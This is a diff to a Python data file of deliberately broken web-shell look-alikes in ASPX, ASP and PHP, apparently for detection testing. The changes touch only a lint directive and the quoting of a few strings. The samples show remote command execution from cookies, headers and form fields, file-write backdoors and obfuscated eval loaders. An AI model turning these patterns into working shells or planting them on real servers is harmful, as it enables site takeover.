@@ -1,5 +1,7 @@
 """Further look-alikes, written after the analysis and not used to shape it; none can run (see `samples`)."""
 
+# ruff: noqa: E501  each line is a page as it stands
+
 ASPX = {
     "a1.aspx": '<%@ Page Language="C#" ValidateRequest="false" %><script runat="server">inert look alike\nprotected void Page_Load(object s, EventArgs e){ if (Request.Cookies["n1"] != null) { string q = HttpUtility.UrlDecode(Request.Cookies["n1"].Value); var i = new System.Diagnostics.ProcessStartInfo { FileName = "cmd", Arguments = string.Format("/c {0}", q), UseShellExecute = false }; Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd()); } }</script>',
     "a2.aspx": '<%@ Page Language="JScript" Debug="true"%><%inert look alike;var a:String=Request.Headers.Get("X-N1");if(a!=null){var b=System.Convert["From"+"Base64String"](a);eval(System.Text.Encoding.ASCII.GetString(b),"unsafe");}%>',
@@ -20,13 +22,13 @@ ASPX = {
 }
 ASP = {
     "b1.asp": '<%inert look alike:Dim x:x=Request.Cookies("n1"):If x<>"" Then:ExecuteGlobal(x):End If%>',
-    "b2.asp": "<%inert look alike\n'comment\nkey = \"n1\"\nSet r = Request.Form\nv = r(key)\nEval(v)%>",
+    "b2.asp": '<%inert look alike\n\'comment\nkey = "n1"\nSet r = Request.Form\nv = r(key)\nEval(v)%>',
     "b3.asp": '<%inert look alike\nFunction b64(s)\nSet d = Server.CreateObject("Msxml2.DOMDocument")\nSet n = d.createElement("x")\nn.dataType = "bin.base64"\nn.text = s\nb64 = Stream_BinaryToString(n.nodeTypedValue)\nEnd Function\nExecute b64(Request("n1"))%>',
     "b4.asp": '<script language="VBScript" runat="server">inert look alike\nSub Go\nDim s\nSet s = CreateObject("WScript" & "." & "Shell")\nResponse.Write s.Exec(Request("c")).StdOut.ReadAll\nEnd Sub\nGo</script>',
     "b5.asp": '<%@ Language="JScript" %><% inert look alike; var e = new ActiveXObject("WScript.Shell").Exec("cmd /c " + Request("n1")); Response.Write(e.StdOut.ReadAll()); %>',
     "b6.asp": '<%inert look alike\na = "Scripting." & "FileSystemObject"\nSet f = Server.CreateObject(a)\nSet t = f.OpenTextFile(Request("f"), 2, True)\nt.Write Request("d")\nt.Close%>',
     "b7.asp": '<%inert look alike\nFor Each k In Request.Form\nIf k = "n1" Then Execute Request.Form(k)\nNext%>',
-    "b8.asp": '<%inert look alike\nbody = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(body)\ns = s & Chr(AscB(MidB(body,i,1)) Xor Asc(Mid(k,(i mod 16)+1,1)))\nNext\nExecuteGlobal s%>',
+    "b8.asp": "<%inert look alike\nbody = Request.BinaryRead(Request.TotalBytes)\nFor i = 1 To LenB(body)\ns = s & Chr(AscB(MidB(body,i,1)) Xor Asc(Mid(k,(i mod 16)+1,1)))\nNext\nExecuteGlobal s%>",
     "b9.asa": '<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>inert look alike; eval(String.fromCharCode(114,101,113,117,101,115,116)==""?"":Request.form("n1")+"");</SCRIPT>',
     "b10.asp": '<%inert look alike\nSet o = Server.CreateObject("ADODB.Connection")\no.Open Request("conn")\nSet rs = o.Execute(Request("sql"))%>',
     "b11.asp": "<%inert look alike\nDim c\nc = Array(101,120,101,99,117,116,101,32,114,101,113,117,101,115,116,40,34,110,49,34,41)\nFor Each i In c\ns = s & Chr(i)\nNext\nExecute s%>",
@@ -43,7 +45,7 @@ PHP = {
     "c8.php": "<?php inert look alike; file_put_contents('x.php', $_POST['n1']);",
     "c9.php": "<?php inert look alike; $x = explode('|', base64_decode($_COOKIE['n1'])); $x[0]($x[1], $x[2]);",
     "c10.php": "<?php inert look alike; class M { private $d; function set($d) { $this->d = $d; return $this; } function go() { system($this->d); } } (new M)->set($_GET['n1'])->go();",
-    "c11.php": "<?php inert look alike; $q = \"\\x65\\x76\\x61\\x6c\"; $z = \"cr\".\"eat\".\"e_fun\".\"ction\"; $g = $z('', $_POST['n1']); $g();",
+    "c11.php": '<?php inert look alike; $q = "\\x65\\x76\\x61\\x6c"; $z = "cr"."eat"."e_fun"."ction"; $g = $z(\'\', $_POST[\'n1\']); $g();',
     "c12.phtml": "<?php inert look alike ?><pre><?php if (!empty($_POST['n1'])) { $o = shell_exec($_POST['n1'] . ' 2>&1'); echo $o; } ?></pre>",
     "c13.php": "<?php inert look alike; switch ($_POST['a']) { case 'sql': mysql_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysql_query($_POST['q']); break; case 'cmd': echo `{$_POST['c']}`; break; }",
     "c14.php": "<?php inert look alike; goto a; b: eval($x); goto c; a: $x = $_POST['n1']; goto b; c:",
